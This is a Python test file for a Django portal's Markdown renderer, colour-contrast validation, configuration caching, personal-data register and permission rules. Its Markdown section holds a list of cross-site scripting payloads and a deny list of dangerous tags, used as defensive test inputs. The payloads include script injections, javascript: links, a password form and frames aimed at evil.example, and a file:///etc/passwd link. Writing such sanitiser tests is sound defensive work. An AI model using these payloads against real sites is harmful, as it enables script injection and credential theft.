"""Editors' texts, colours, the configuration, personal data and rules."""

import time

import pytest
import rules
from django.contrib.auth.models import AnonymousUser
from django.core.exceptions import PermissionDenied, ValidationError
from django.db import IntegrityError, transaction
from django.db.models import Model
from django.template import Context, Template
from django.test import RequestFactory
from hypothesis import given
from hypothesis import strategies as st

from pscc.kernel import site as site_module
from pscc.kernel.access import allowed, require
from pscc.kernel.contrast import contrast, luminance
from pscc.kernel.models import SiteConfiguration, readable_colour
from pscc.kernel.personal_data import Declaration, declare, register
from pscc.kernel.site import forget_site, site
from pscc.kernel.text import markdown_blocks, render_markdown
from tests.factories import make_user

# --- Markdown ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("", ""),
        ("**bold** and *em*", "<p><strong>bold</strong> and <em>em</em></p>\n"),
        ("# Title", "<h2>Title</h2>\n"),
        ("## Under", "<h2>Under</h2>\n"),
        ("##### Deep", "Deep\n"),
        ("- one\n- two", "<ul>\n<li>one</li>\n<li>two</li>\n</ul>\n"),
        (
            "[site](https://a.example 'T')",
            '<p><a href="https://a.example" title="T" rel="nofollow ugc noopener">site</a></p>\n',
        ),
        (
            "[write](mailto:a@b.example)",
            '<p><a href="mailto:a@b.example" rel="nofollow ugc noopener">write</a></p>\n',
        ),
        ("1 < 2 & 3", "<p>1 &lt; 2 &amp; 3</p>\n"),
        ("`<b>`", "<p><code>&lt;b&gt;</code></p>\n"),
        ("مرحبا 😀", "<p>مرحبا 😀</p>\n"),
    ],
)
def test_harmless_text_is_set(text, html):
    assert render_markdown(text) == html


ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=a()&gt;">',
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "![x](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '[x](https://a.example "\\" onmouseover=alert(1) ")',
    "<iframe src=https://evil.example></iframe>",
    "<form action=//evil.example><input name=password></form>",
    "<style>body{display:none}</style>",
    "<p style='position:fixed' onclick=alert(1)>x</p>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=x></object><embed src=x>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
]  # fmt: skip
FORBIDDEN = (
    "<script", "<img", "<svg", "<math", "<iframe", "<form", "<input", "<style", "<base", "<meta",
    "<object", "<embed", "<noscript", "<h1",
)  # fmt: skip


def tags_of(html):
    """Return each start tag as (name, attributes), as a browser would read it."""
    from html.parser import HTMLParser

    found = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag, attrs):
            found.append((tag, dict(attrs)))

    Reader().feed(html)
    return found


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_that_runs_or_loads_passes(attack):
    html = str(render_markdown(attack))

    assert [each for each in FORBIDDEN if each in html.lower()] == []
    for _tag, attributes in tags_of(html):
        assert set(attributes) <= {"href", "title", "rel"}
        assert attributes.get("href", "https:").startswith(("https:", "http:", "mailto:"))


@given(st.text(alphabet="<>/\"'=[]()!`*#\\&;: \n\tjavscriptonmgh1x", max_size=80))
def test_no_mixture_of_signs_passes_either(text):
    html = str(render_markdown(text))

    assert [each for each in FORBIDDEN if each in html.lower()] == []
    assert all(set(attributes) <= {"href", "title", "rel"} for _tag, attributes in tags_of(html))


def test_a_very_long_text_is_set_in_good_time():
    begun = time.monotonic()

    render_markdown("*[" * 5_000 + "a" + "](x)*" * 5_000)
    render_markdown("> " * 10_000)

    assert time.monotonic() - begun < 5


def test_the_filter_takes_nothing_for_nothing():
    template = Template("{% load text %}{{ text|markdown }}")

    assert template.render(Context({"text": None})) == ""


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("# Title\n\nOne\ntwo", [("heading", "Title"), ("paragraph", "One two")]),
        ("- one\n- two\n  - in", [("bullet", "one"), ("bullet", "two"), ("bullet", "in")]),
        ("1. one\n2. two\n\nAfter", [("number", "one"), ("number", "two"), ("paragraph", "After")]),
        ("- one\n\n  more", [("bullet", "one"), ("paragraph", "more")]),
        ("[here](https://a.example) <https://b.example>",
         [("paragraph", "here (https://a.example) https://b.example")]),
        ("<b>raw</b> #let x", [("paragraph", "<b>raw</b> #let x")]),
        ("    code", [("paragraph", "code")]),
        ("", []),
    ],
)  # fmt: skip
def test_a_text_becomes_blocks_for_a_paper(text, told):
    blocks = markdown_blocks(text)

    assert [(each["kind"], "".join(run["text"] for run in each["runs"])) for each in blocks] == told


def test_runs_keep_what_is_strong_and_lines_their_number():
    (first, second) = markdown_blocks("1. a **b *c***\n2. d")

    assert first["runs"] == [
        {"text": "a ", "strong": False, "em": False},
        {"text": "b ", "strong": True, "em": False},
        {"text": "c", "strong": True, "em": True},
    ]
    assert (first["number"], second["number"]) == (1, 2)


# --- Colours -------------------------------------------------------------------------------------


def test_contrast_is_that_of_the_guidelines():
    assert contrast("#000000", "#ffffff") == 21
    assert contrast("#ffffff", "#ffffff") == 1
    assert contrast("#767676", "#ffffff") == contrast("#ffffff", "#767676")
    assert round(contrast("#767676", "#ffffff"), 2) == 4.54
    assert luminance("#FFFFFF") == luminance("#ffffff") == 1


@pytest.mark.parametrize("colour", ["#000000", "#1f4e8c", "#b4236b", "#767676"])
def test_a_dark_colour_is_taken(colour):
    readable_colour(colour)


@pytest.mark.parametrize("colour", ["#ffffff", "#777777", "#ffd400", "#FFD400"])
def test_a_light_colour_is_refused(colour):
    with pytest.raises(ValidationError, match="too light"):
        readable_colour(colour)


@pytest.mark.django_db
@pytest.mark.parametrize("colour", ["red", "#12345", "#gggggg", "#1f4e8c; }", "", "#ffffff"])
def test_no_other_colour_passes_the_form(colour):
    configuration = site()
    configuration.primary_colour = colour

    with pytest.raises(ValidationError) as refusal:
        configuration.clean_fields()

    assert "primary_colour" in refusal.value.message_dict


# --- The configuration ---------------------------------------------------------------------------


def stored(**fields):
    return SiteConfiguration.objects.create(
        pk=1, name="Cluster", short_name="C", promise="P", contact_email="a@b.example",
        support_email="a@b.example", **fields,
    )  # fmt: skip


@pytest.mark.django_db
def test_a_portal_without_configuration_has_a_plain_name():
    SiteConfiguration.objects.all().delete()

    assert site().name == "Portal"
    assert SiteConfiguration.objects.count() == 0


@pytest.mark.django_db
def test_the_configuration_is_read_once_and_afresh_when_told(django_assert_num_queries):
    SiteConfiguration.objects.all().delete()
    stored()
    forget_site()

    with django_assert_num_queries(1):
        assert [site().short_name, site().short_name] == ["C", "C"]
    SiteConfiguration.objects.update(short_name="New")

    assert site().short_name == "C"
    forget_site()
    assert site().short_name == "New"


@pytest.mark.django_db
def test_the_configuration_is_at_most_five_seconds_old():
    SiteConfiguration.objects.all().delete()
    stored()
    forget_site()
    held = site()
    SiteConfiguration.objects.update(short_name="New")

    site_module._held = (time.monotonic() - 5.1, held)

    assert site().short_name == "New"


@pytest.mark.django_db
def test_there_is_one_configuration():
    SiteConfiguration.objects.all().delete()
    stored()

    with pytest.raises(IntegrityError), transaction.atomic():
        SiteConfiguration.objects.create(pk=2, name="Second", short_name="S")


# --- Personal data -------------------------------------------------------------------------------


def test_a_declaration_says_what_why_and_how_long():
    declare(Model, purpose="P.", retention="R.", fields={"email": "identity"})

    assert register.pop(Model) == Declaration(Model, "P.", "R.", {"email": "identity"})


# --- Rules ---------------------------------------------------------------------------------------


@pytest.mark.django_db
def test_a_rule_nobody_wrote_holds_for_nobody():
    superuser = make_user(is_superuser=True)

    assert allowed(superuser, "kernel.fly") is False
    with pytest.raises(PermissionDenied):
        require(superuser, "kernel.fly")


@pytest.mark.django_db
def test_a_superuser_passes_no_rule():
    superuser = make_user(is_superuser=True, is_staff=True)

    assert superuser.has_perm("partners.publish_organisation") is True
    assert allowed(superuser, "partners.publish_organisation") is False


@pytest.mark.django_db
def test_a_refusal_is_a_sentence_for_the_reader():
    with pytest.raises(PermissionDenied) as refusal:
        require(make_user(), "partners.publish_organisation")

    assert str(refusal.value) == (
        "You can see this, but your role does not allow this action. Ask a person in charge."
    )


@pytest.mark.django_db
def test_every_rule_answers_for_nobody_and_for_strangers():
    names = list(rules.permissions.permissions)

    assert len(names) > 60
    assert [name for name in names if allowed(AnonymousUser(), name)] == []


@pytest.mark.django_db
def test_templates_ask_the_same_rule():
    template = Template(
        "{% load access %}{% can 'partners.create_project' as may %}{{ may|yesno:'yes,no' }}"
    )
    request = RequestFactory().get("/")
    request.user = make_user()

    assert template.render(Context({"request": request})) == "yes"
    request.user = AnonymousUser()
    assert template.render(Context({"request": request})) == "no"
